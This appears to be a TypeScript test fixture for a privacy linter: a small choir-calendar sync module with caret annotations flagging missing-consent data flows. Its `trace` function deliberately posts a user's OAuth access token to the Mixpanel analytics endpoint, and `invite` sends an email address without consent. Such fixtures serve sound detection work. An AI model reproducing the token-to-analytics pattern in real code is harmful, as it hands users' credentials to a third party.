// A choir library syncs its calendar: a token goes back to the service that issued it, a session's token to nobody else.
interface Singer {
  id: string;
  email: string;
  refreshToken: string;
  accessToken: string;
}

export async function renew(singer: Singer): Promise<Response> {
  return fetch('https://oauth2.googleapis.com/token', {
    method: 'POST',
    body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: singer.refreshToken }),
  });
}

export async function invite(singer: Singer): Promise<void> {
  await fetch('https://www.googleapis.com/calendar/v3/invite', { method: 'POST', body: JSON.stringify({ email: singer.email }) });
//      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ missing-consent: user.contact.email -> HTTP request
}

export async function trace(singer: Singer): Promise<void> {
  await fetch('https://api.mixpanel.com/track', { method: 'POST', body: JSON.stringify({ token: singer.accessToken }) });
//      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ missing-consent: user.authorization.credentials -> HTTP request
}
